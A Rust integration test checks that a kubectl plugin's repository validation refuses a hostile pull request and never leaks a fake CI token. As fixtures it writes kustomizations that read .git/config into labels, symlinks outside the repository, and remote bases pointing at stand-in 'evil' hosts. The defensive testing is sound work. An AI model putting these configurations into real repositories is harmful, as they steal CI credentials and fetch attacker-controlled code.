//! Repository mode on a hostile pull request: a repository made at test time (git stores neither FIFOs nor
//! symlinks out of the tree) with every trick that used to reach outside it — `.git/config` read by a
//! `configMapGenerator` (at the root, under a Flux path, and by its absolute path from a kustomization in a hidden
//! directory that a Flux path includes), symlinks out under a Flux path, in a symlinked directory
//! of a Helm chart, as a HelmRelease values file, as a kustomize base and as an Argo CD path, a builtin plugin config
//! reading `.git`, remote bases in every spelling kustomize and go-getter fetch, a FIFO — beside sources that build
//! normally (so kustomize and helm do run). `validate` runs under `strace -f`: each trick is one refusal at the
//! file:line that names it, the fake CI token never appears on stdout or stderr, no git or ssh is executed, nothing
//! connects anywhere but the closed loopback proxy, and no process opens a path outside the repository (`.git`, the
//! "outside" directory, a refused symlink), nor does a tool open anything of the repository itself: tools see only
//! the staged copy of the walked files.

use crate::support;

use std::collections::{BTreeSet, HashMap, HashSet};
use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::{Duration, Instant};

use serde_json::Value;

/// What a CI job keeps in `.git/config` (actions/checkout's http extraheader), and what every outside file holds.
const SECRET: &str = "SECRETTOKEN";
const GIT_CONFIG: &str =
    "[core]\n\tbare = false\n[http \"https://github.com/\"]\n\textraheader = AUTHORIZATION: basic SECRETTOKEN\n";

/// Remote bases, each in its own kustomization: scp-style with and without a user, go-getter's forced getter, the
/// GitHub shorthands, every URL scheme kustomize clones or fetches, OCI, and the query forms.
const REMOTE_SPELLINGS: [&str; 15] = [
    "git@github.com:example/evil//base?ref=main",
    "deploy@git.example.com:example/evil",
    "git.example.com:example/evil",
    "git::deploy@git.example.com:example/evil//base",
    "git::https://git.example.com/example/evil//base",
    "github.com:example/evil/base",
    "github.com/example/evil/base?ref=v1",
    "gh:example/evil",
    "ssh://git@git.example.com/example/evil.git//base",
    "https://git.example.com/example/evil//base?ref=v1",
    "http://git.example.com/example/evil.git/base",
    "file:///srv/git/evil.git//base",
    "oci://ghcr.io/example/evil:v1",
    "git.example.com/example/evil.git?version=v1",
    "https://raw.example.com/evil/cm.yaml",
];

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn symlink(target: impl AsRef<Path>, link: &Path) {
    std::fs::create_dir_all(link.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(target, link).unwrap();
}

fn config_map(name: &str) -> String {
    format!("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {name}\ndata:\n  a: b\n")
}

fn flux_kustomization(name: &str, path: &str, extra: &str) -> String {
    format!(
        "apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata:\n  name: {name}\n  namespace: flux-system\n\
         spec:\n  interval: 10m\n  path: ./{path}\n  prune: true\n  sourceRef:\n    kind: GitRepository\n    name: fleet\n{extra}"
    )
}

fn helm_release(name: &str, values_file: &str) -> String {
    format!(
        "apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata:\n  name: {name}\n  namespace: flux-system\n\
         spec:\n  interval: 10m\n  chart:\n    spec:\n      chart: ./charts/ok\n      sourceRef:\n        kind: GitRepository\n\
         \x20       name: fleet\n      valuesFiles:\n        - {values_file}\n"
    )
}

fn application(name: &str, source: &str) -> String {
    format!(
        "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: {name}\n  namespace: argocd\nspec:\n  \
         project: default\n  destination:\n    server: https://kubernetes.default.svc\n    namespace: apps\n  source:\n    \
         repoURL: https://github.com/example/fleet.git\n{source}"
    )
}

/// The outside directory (a fake secret in every shape a trick could read) and the repository beside it.
struct Hostile {
    _base: tempfile::TempDir,
    /// Every path below it is outside the repository.
    outside: PathBuf,
    repo: PathBuf,
    /// The symlinks out of the repository, relative to it: never opened.
    links_out: Vec<String>,
}

fn hostile_repository() -> Hostile {
    let base = tempfile::Builder::new().prefix("capz-hostile-").tempdir().unwrap();
    let outside = base.path().join("outside");
    let repo = base.path().join("repo");
    let secret_object =
        format!("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: stolen\ndata:\n  token: {SECRET}\n");
    write(&outside.join("git-config"), GIT_CONFIG);
    write(&outside.join("secret.yaml"), &secret_object);
    write(&outside.join("values.yaml"), &format!("token: {SECRET}\n"));
    write(&outside.join("base/kustomization.yaml"), "resources:\n- cm.yaml\n");
    write(&outside.join("base/cm.yaml"), &secret_object);
    write(&outside.join("template.yaml"), &secret_object);
    write(&repo.join(".git/config"), GIT_CONFIG);
    // The root kustomization (kustomize's default load restrictions allow `.git/config`, below the root): the
    // token copied into a label, where a finding would print it.
    write(
        &repo.join("kustomization.yaml"),
        "resources:\n- cm.yaml\nconfigMapGenerator:\n- name: leak\n  files:\n  - config=.git/config\nreplacements:\n\
         - source:\n    kind: ConfigMap\n    name: leak\n    fieldPath: data.config\n  targets:\n  - select:\n      \
         kind: ConfigMap\n      name: root\n    fieldPaths:\n    - metadata.labels.token\n    options:\n      create: true\n",
    );
    write(&repo.join("cm.yaml"), &config_map("root"));
    // Under a Flux path (built with LoadRestrictionsNone): `../.git/config`.
    write(
        &repo.join("flux-git/kustomization.yaml"),
        "resources:\n- cm.yaml\nconfigMapGenerator:\n- name: leak\n  files:\n  - ../.git/config\n",
    );
    write(&repo.join("flux-git/cm.yaml"), &config_map("flux-git"));
    write(&repo.join("flux/git.yaml"), &flux_kustomization("git", "flux-git", ""));
    // A kustomization in a hidden directory (never built on its own) included by a Flux path's: it names the real
    // repository's `.git/config` by its absolute path, which LoadRestrictionsNone would let kustomize read.
    let absolute_git = std::fs::canonicalize(&repo).unwrap().join(".git/config");
    write(
        &repo.join(".hidden/evil/kustomization.yaml"),
        &format!("configMapGenerator:\n- name: leak\n  files:\n  - {}\n", absolute_git.display()),
    );
    write(&repo.join("flux-hidden/kustomization.yaml"), "resources:\n- cm.yaml\n- ../.hidden/evil\n");
    write(&repo.join("flux-hidden/cm.yaml"), &config_map("flux-hidden"));
    write(&repo.join("flux/hidden.yaml"), &flux_kustomization("hidden", "flux-hidden", ""));
    // A file symlink out, listed by the kustomization of a Flux path, and one in a Flux path without a kustomization.
    write(&repo.join("flux-link/kustomization.yaml"), "resources:\n- cm.yaml\n- secret.yaml\n");
    write(&repo.join("flux-link/cm.yaml"), &config_map("flux-link"));
    symlink(outside.join("secret.yaml"), &repo.join("flux-link/secret.yaml"));
    write(&repo.join("flux/link.yaml"), &flux_kustomization("link", "flux-link", ""));
    write(&repo.join("flux-plain/cm.yaml"), &config_map("flux-plain"));
    symlink(outside.join("secret.yaml"), &repo.join("flux-plain/secret.yaml"));
    write(&repo.join("flux/plain.yaml"), &flux_kustomization("plain", "flux-plain", "  targetNamespace: team\n"));
    // A Flux component outside the repository.
    write(&repo.join("flux-component/cm.yaml"), &config_map("flux-component"));
    write(&repo.join("flux-component/kustomization.yaml"), "resources:\n- cm.yaml\n");
    write(
        &repo.join("flux/component.yaml"),
        &flux_kustomization("component", "flux-component", "  components:\n    - ../../outside/base\n"),
    );
    // A Helm chart whose templates/lib is a symlinked directory inside the repository (walked first under its own
    // path) that holds a second symlink out.
    write(&repo.join("a-shared/ok.yaml"), &config_map("shared"));
    symlink(outside.join("template.yaml"), &repo.join("a-shared/out.yaml"));
    write(&repo.join("charts/leaky/Chart.yaml"), "apiVersion: v2\nname: leaky\nversion: 0.1.0\n");
    symlink("../../../a-shared", &repo.join("charts/leaky/templates/lib"));
    // A chart that renders, and HelmReleases of it whose values files are a symlink out and `.git/config`.
    write(&repo.join("charts/ok/Chart.yaml"), "apiVersion: v2\nname: ok\nversion: 0.1.0\n");
    write(&repo.join("charts/ok/values.yaml"), "token: public\n");
    write(
        &repo.join("charts/ok/templates/cm.yaml"),
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ .Release.Name }}\ndata:\n  token: {{ .Values.token | quote }}\n",
    );
    symlink(outside.join("values.yaml"), &repo.join("values/evil.yaml"));
    write(&repo.join("flux/release-link.yaml"), &helm_release("link-values", "./values/evil.yaml"));
    write(&repo.join("flux/release-git.yaml"), &helm_release("git-values", ".git/config"));
    // A kustomize base and an Argo CD kustomize path that are symlinks to a directory outside.
    symlink(outside.join("base"), &repo.join("evil-base"));
    write(&repo.join("kbase/kustomization.yaml"), "resources:\n- ../evil-base\n");
    write(
        &repo.join("apps/evil-path.yaml"),
        &application("evil-path", "    path: evil-base\n    kustomize:\n      namePrefix: x-\n"),
    );
    // An Argo CD helm source whose value file is `.git/config`, and a kustomize source with options that builds.
    write(
        &repo.join("apps/helm-git.yaml"),
        &application("helm-git", "    path: charts/ok\n    helm:\n      valueFiles:\n        - ../../.git/config\n"),
    );
    write(&repo.join("kgood/kustomization.yaml"), "resources:\n- cm.yaml\n");
    write(&repo.join("kgood/cm.yaml"), &config_map("kgood"));
    write(
        &repo.join("apps/good.yaml"),
        &application("good", "    path: kgood\n    kustomize:\n      namePrefix: p-\n"),
    );
    // A kustomization kustomize builds (not only resources), and a builtin plugin config that reads `.git`.
    write(&repo.join("kprefix/kustomization.yaml"), "namePrefix: q-\nresources:\n- cm.yaml\n");
    write(&repo.join("kprefix/cm.yaml"), &config_map("kprefix"));
    write(
        &repo.join("plugin/kustomization.yaml"),
        "resources:\n- cm.yaml\ntransformers:\n- |-\n  apiVersion: builtin\n  kind: PatchTransformer\n  metadata:\n    \
         name: leak\n  path: ../.git/config\n",
    );
    write(&repo.join("plugin/cm.yaml"), &config_map("plugin"));
    // Remote bases in every spelling.
    for (index, spelling) in REMOTE_SPELLINGS.iter().enumerate() {
        let dir = repo.join(format!("remote/r{index:02}"));
        write(&dir.join("kustomization.yaml"), &format!("resources:\n- cm.yaml\n- {spelling}\n"));
        write(&dir.join("cm.yaml"), &config_map(&format!("r{index:02}")));
    }
    write(
        &repo.join("remote/file/kustomization.yaml"),
        "configMapGenerator:\n- name: fetched\n  files:\n  - https://raw.example.com/evil/config\n",
    );
    // A FIFO: reading it would block forever.
    std::fs::create_dir_all(repo.join("fifo")).unwrap();
    let status = std::process::Command::new("mkfifo").arg(repo.join("fifo/pipe.yaml")).status().unwrap();
    assert!(status.success(), "mkfifo failed");
    let links_out =
        ["flux-link/secret.yaml", "flux-plain/secret.yaml", "a-shared/out.yaml", "values/evil.yaml", "evil-base"]
            .map(String::from)
            .to_vec();
    Hostile { _base: base, outside, repo, links_out }
}

/// `PATH` with tools/helm/bin first (helm renders the charts).
fn path_with_helm() -> OsString {
    let helm = support::repo_root().join("tools/helm/bin");
    assert!(helm.join("helm").is_file(), "helm is missing from {}: run tools/helm/build.sh", helm.display());
    let mut dirs = vec![helm];
    dirs.extend(std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default()));
    std::env::join_paths(dirs).unwrap()
}

/// Runs `command` to its end, failing the test if it takes longer than `limit` (a FIFO read would block forever).
fn run_bounded(mut command: std::process::Command, limit: Duration) -> Output {
    let child = command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped()).spawn().unwrap();
    let id = child.id();
    let (sender, receiver) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = sender.send(child.wait_with_output());
    });
    match receiver.recv_timeout(limit) {
        Ok(output) => output.unwrap(),
        Err(_) => {
            let _ = std::process::Command::new("kill").args(["-9", &id.to_string()]).status();
            panic!("validate did not finish within {}s: something blocks (a FIFO opened?)", limit.as_secs());
        }
    }
}

/// `strace` on PATH, or a failure that says how to get it: without it the test would prove nothing.
fn strace() -> PathBuf {
    let found = std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default())
        .map(|dir| dir.join("strace"))
        .find(|path| path.is_file());
    found.unwrap_or_else(|| {
        panic!(
            "strace is not installed: this test traces every exec, connect and open of repository mode's child \
             processes with it (apt-get install strace; .ci/run and scripts/test-all.sh install it)"
        )
    })
}

/// One traced system call.
#[derive(Debug)]
struct Call {
    pid: u32,
    name: String,
    /// The first string argument (a path), and the rest of the line.
    path: Option<String>,
    line: String,
}

/// Reads strace's `-f` output: every call with its pid (a call another process interrupted, printed as
/// `<unfinished ...>` and `<... name resumed>`, joined again), and the processes each one started (clone/fork).
fn read_trace(text: &str) -> (Vec<Call>, HashMap<u32, u32>) {
    let mut calls = Vec::new();
    let mut parents = HashMap::new();
    let mut unfinished: HashMap<u32, String> = HashMap::new();
    for line in text.lines() {
        let Some((pid, rest)) = line.split_once(' ') else { continue };
        let Ok(pid) = pid.trim().parse::<u32>() else { continue };
        let rest = rest.trim_start();
        if let Some(start) = rest.strip_suffix("<unfinished ...>") {
            unfinished.insert(pid, start.to_string());
            continue;
        }
        let rest = match rest.strip_prefix("<... ").and_then(|resumed| resumed.split_once("resumed>")) {
            Some((_, end)) => format!("{}{end}", unfinished.remove(&pid).unwrap_or_default()),
            None => rest.to_string(),
        };
        let name = rest.split('(').next().unwrap_or("").to_string();
        if matches!(name.as_str(), "clone" | "clone3" | "fork" | "vfork") {
            if let Some(child) = rest.rsplit_once("= ").and_then(|(_, value)| value.trim().parse::<u32>().ok()) {
                parents.insert(child, pid);
            }
            continue;
        }
        let path = rest.split_once('"').and_then(|(_, after)| after.split_once('"')).map(|(path, _)| path.to_string());
        calls.push(Call { pid, name, path, line: format!("{pid} {rest}") });
    }
    (calls, parents)
}

/// Findings of the rule `repository-source`, as `source:line: message`.
fn source_findings(report: &Value) -> Vec<String> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| finding["rule"] == "repository-source")
        .map(|f| format!("{}:{}: {}", f["source"].as_str().unwrap(), f["line"], f["message"].as_str().unwrap()))
        .collect()
}

#[test]
fn a_hostile_pull_request_is_refused_at_each_line_and_no_process_reaches_outside_the_repository() {
    let strace = strace();
    let hostile = hostile_repository();
    let trace = hostile.repo.parent().unwrap().join("trace");

    let mut command = std::process::Command::new(&strace);
    command
        .args(["-f", "-qq", "-s", "4096", "-e", "trace=execve,connect,open,openat,clone,clone3,fork,vfork", "-o"])
        .arg(&trace)
        .arg(support::capz_bin())
        .args(["validate", "-o", "json", "."])
        .current_dir(&hostile.repo)
        .env("PATH", path_with_helm());
    let started = Instant::now();
    let output = run_bounded(command, Duration::from_secs(300));
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    if let Ok(keep) = std::env::var("CAPZ_KEEP_TRACE") {
        std::fs::copy(&trace, keep).unwrap();
    }
    assert!(
        !stderr.contains("ptrace") && !stderr.contains("Operation not permitted") && trace.exists(),
        "strace cannot trace here (ptrace refused: a container without CAP_SYS_PTRACE or kernel.yama.ptrace_scope=3); \
         this test needs it: {stderr}"
    );
    let report: Value =
        serde_json::from_str(&stdout).unwrap_or_else(|err| panic!("{err}\nstdout: {stdout}\nstderr: {stderr}"));
    assert!(!stdout.contains(SECRET) && !stderr.contains(SECRET), "the token leaked:\n{stdout}\n{stderr}");
    eprintln!("validate under strace: {:.1}s", started.elapsed().as_secs_f64());

    // Each trick, refused at the line that names it, saying why.
    let findings = source_findings(&report);
    let outside = std::fs::canonicalize(&hostile.outside).unwrap().display().to_string();
    let repo = std::fs::canonicalize(&hostile.repo).unwrap();
    let expected: Vec<(&str, String)> = vec![
        ("./kustomization.yaml:6: ", "`.git/config` is inside `.git`, version control metadata that is never read".into()),
        ("./flux-git/kustomization.yaml:6: ", "`../.git/config` (`.git/config` in the repository) is inside `.git`".into()),
        ("./.hidden/evil/kustomization.yaml:4: ", format!("`{}/.git/config` is outside the repository", repo.display())),
        ("./flux-link/kustomization.yaml:3: ", format!("`secret.yaml` (`flux-link/secret.yaml` in the repository) is a symlink to `{outside}/secret.yaml`, outside the repository")),
        ("./flux-link/secret.yaml:1: ", format!("`flux-link/secret.yaml` is a symlink to `{outside}/secret.yaml`, outside the repository: not read")),
        ("./flux-plain/secret.yaml:1: ", format!("`flux-plain/secret.yaml` is a symlink to `{outside}/secret.yaml`")),
        ("./a-shared/out.yaml:1: ", format!("`a-shared/out.yaml` is a symlink to `{outside}/template.yaml`")),
        ("./values/evil.yaml:1: ", format!("`values/evil.yaml` is a symlink to `{outside}/values.yaml`")),
        ("./evil-base:1: ", format!("`evil-base` is a symlink to `{outside}/base`, outside the repository: not read")),
        ("./flux/component.yaml:14: ", "Kustomization/component: spec.components entry `../../outside/base` is outside the repository".into()),
        ("./charts/leaky/Chart.yaml:1: ", "chart ./charts/leaky was not rendered: ./charts/leaky/templates/lib/out.yaml is a symlink out of the repository".into()),
        ("./flux/release-link.yaml:15: ", format!("HelmRelease/link-values: `./values/evil.yaml` is a symlink to `{outside}/values.yaml`, outside the repository")),
        ("./flux/release-git.yaml:15: ", "HelmRelease/git-values: `.git/config` is inside `.git`".into()),
        ("./kbase/kustomization.yaml:2: ", format!("`../evil-base` (`evil-base` in the repository) is a symlink to `{outside}/base`, outside the repository")),
        ("./apps/evil-path.yaml:1: ", format!("Application/evil-path: path `evil-base` is a symlink to `{outside}/base`, outside the repository")),
        ("./apps/helm-git.yaml:16: ", "Application/helm-git: value file `./charts/ok/../../.git/config` is inside `.git`".into()),
        ("./plugin/kustomization.yaml:5: ", "`../.git/config`, in the inline `transformers` entry 1 (`.git/config` in the repository) is inside `.git`".into()),
        ("./fifo/pipe.yaml:1: ", "`fifo/pipe.yaml` is a FIFO (named pipe), not a regular file: skipped, never opened".into()),
        ("./remote/file/kustomization.yaml:4: ", "`https://raw.example.com/evil/config` is a remote file (a URL kustomize would download)".into()),
    ];
    let mut missing = Vec::new();
    for (at, message) in &expected {
        if !findings.iter().any(|finding| finding.starts_with(at) && finding.contains(message.as_str())) {
            missing.push(format!("{at}{message}"));
        }
    }
    for (index, spelling) in REMOTE_SPELLINGS.iter().enumerate() {
        let at = format!("./remote/r{index:02}/kustomization.yaml:3: `{spelling}` is a remote base (");
        if !findings.iter().any(|finding| finding.starts_with(&at)) {
            missing.push(at);
        }
    }
    assert!(missing.is_empty(), "refusals missing:\n{}\nfindings:\n{}", missing.join("\n"), findings.join("\n"));
    // Each refused source counted as not built (a FIFO and each link out too); nothing else.
    let not_built: BTreeSet<String> = report["notBuilt"]
        .as_array()
        .unwrap()
        .iter()
        .map(|entry| format!("{}:{}", entry["source"].as_str().unwrap(), entry["line"]))
        .collect();
    assert_eq!(not_built.len(), expected.len() + REMOTE_SPELLINGS.len(), "{not_built:#?}");
    // What is not hostile was built: the chart, the kustomizations, the Argo CD source with options.
    let names: BTreeSet<String> = report["resources"]
        .as_array()
        .unwrap()
        .iter()
        .map(|resource| resource["object"].as_str().unwrap_or_default().to_string())
        .collect();
    for built in ["ConfigMap/ok", "ConfigMap/q-kprefix", "ConfigMap/p-kgood", "ConfigMap/flux-plain"] {
        assert!(names.contains(built), "{built} not validated: {names:?}");
    }

    // The text report and stderr, under --strict: every refused source an error (exit 1), the token nowhere.
    let mut text = std::process::Command::new(support::capz_bin());
    text.args(["validate", "--strict", "."]).current_dir(&hostile.repo).env("PATH", path_with_helm());
    let text = run_bounded(text, Duration::from_secs(300));
    let (stdout, stderr) = (String::from_utf8_lossy(&text.stdout), String::from_utf8_lossy(&text.stderr));
    assert_eq!(text.status.code(), Some(1), "{stdout}\n{stderr}");
    assert!(!stdout.contains(SECRET) && !stderr.contains(SECRET), "the token leaked:\n{stdout}\n{stderr}");
    assert!(stdout.contains("./kustomization.yaml:6: error: `.git/config` is inside `.git`"), "{stdout}");

    // The trace: what ran, what connected, what was opened.
    let (calls, parents) = read_trace(&std::fs::read_to_string(&trace).unwrap());
    let root_pid = calls.iter().find(|call| call.name == "execve").map(|call| call.pid).expect("no execve traced");
    let mut tools: HashSet<u32> = HashSet::new();
    let mut programs = BTreeSet::new();
    for call in calls.iter().filter(|call| call.name == "execve" && call.line.ends_with("= 0")) {
        let program = call.path.clone().unwrap_or_default();
        programs.insert(Path::new(&program).file_name().unwrap().to_string_lossy().into_owned());
        if call.pid != root_pid {
            tools.insert(call.pid);
        }
    }
    let allowed: BTreeSet<String> = ["helm", "kubectl", "kubectl-capz", "kustomize"].map(String::from).into();
    assert!(programs.is_subset(&allowed), "programs executed (no git, no ssh, nothing else): {programs:?}");
    assert!(
        programs.contains("helm") && (programs.contains("kubectl") || programs.contains("kustomize")),
        "helm and kustomize ran under the trace: {programs:?}"
    );
    let failed_execs: Vec<&str> = calls
        .iter()
        .filter(|call| call.name == "execve" && !call.line.ends_with("= 0"))
        .filter_map(|call| call.path.as_deref())
        .filter(|path| ["git", "ssh"].iter().any(|name| path.ends_with(&format!("/{name}"))))
        .collect();
    assert!(failed_execs.is_empty(), "git or ssh was looked for: {failed_execs:?}");
    // A process is a tool's when it or an ancestor executed one.
    let is_tool = |mut pid: u32| loop {
        if tools.contains(&pid) {
            return true;
        }
        match parents.get(&pid) {
            Some(parent) => pid = *parent,
            None => return false,
        }
    };
    let connects: Vec<&str> = calls
        .iter()
        .filter(|call| call.name == "connect")
        .map(|call| call.line.as_str())
        .filter(|line| !(line.contains("sin_port=htons(9)") && line.contains("127.0.0.1")))
        .collect();
    assert!(connects.is_empty(), "connections other than the closed proxy: {connects:#?}");
    let base_name = repo.parent().unwrap().file_name().unwrap().to_string_lossy().into_owned();
    // What a tool may open: the stage, the temporary directories repository mode makes for it (wrapper
    // kustomization, home, values files), the directories of PATH and its own executable (kubectl's and helm's
    // start-up), and what the Go runtime reads of the system.
    let temp = std::fs::canonicalize(std::env::temp_dir()).unwrap().join("kubectl-capz-").display().to_string();
    let path_dirs: HashSet<String> =
        std::env::split_paths(&path_with_helm()).map(|dir| dir.display().to_string()).collect();
    const SYSTEM: [&str; 7] =
        ["/proc/", "/sys/", "/dev/null", "/etc/localtime", "/usr/share/zoneinfo/", "/etc/ld.so.cache", "/lib"];
    let tool_may_open = |path: &str| {
        path.starts_with(&temp)
            || path_dirs.contains(path.trim_end_matches('/'))
            || ["helm", "kubectl", "kustomize"].iter().any(|tool| path.ends_with(&format!("/{tool}")))
            || SYSTEM.iter().any(|prefix| path.starts_with(prefix))
            || path.starts_with("/usr/lib/")
    };
    let mut violations = Vec::new();
    for call in calls.iter().filter(|call| matches!(call.name.as_str(), "open" | "openat")) {
        let Some(path) = &call.path else { continue };
        if is_tool(call.pid) {
            // Tools never see the repository nor what is beside it, nor the user's files; relative paths are below
            // their working directory (a temporary one) unless they climb.
            let relative_ok = !path.starts_with('/') && !path.contains("..");
            if path.contains(&base_name) || !(relative_ok || tool_may_open(path)) {
                violations.push(format!("tool opened {path}: {}", call.line));
            }
            continue;
        }
        // kubectl-capz itself runs in the repository (paths relative to it) and reads its walked files only.
        let absolute = if path.starts_with('/') { PathBuf::from(path) } else { repo.join(path) };
        let normalized: PathBuf = absolute.components().collect();
        let inside = normalized.strip_prefix(&repo).ok().map(|p| p.display().to_string());
        let bad = path.contains("/outside")
            || inside.as_deref().is_some_and(|inner| {
                inner == ".git"
                    || inner.starts_with(".git/")
                    || hostile.links_out.iter().any(|link| inner == link || inner.starts_with(&format!("{link}/")))
                    || inner.starts_with("fifo/pipe.yaml")
            });
        if bad {
            violations.push(format!("kubectl-capz opened {path}: {}", call.line));
        }
    }
    assert!(violations.is_empty(), "opened outside the boundary:\n{}", violations.join("\n"));
    // The tools did run and open files (in the stage): the trace is not empty by accident.
    let tool_opens = calls.iter().filter(|call| is_tool(call.pid) && call.name.starts_with("open")).count();
    assert!(tool_opens > 0, "no open by a tool traced");
    let staged = calls
        .iter()
        .any(|call| is_tool(call.pid) && call.path.as_deref().is_some_and(|path| path.contains("kubectl-capz-stage-")));
    assert!(staged, "no tool read the stage");
}
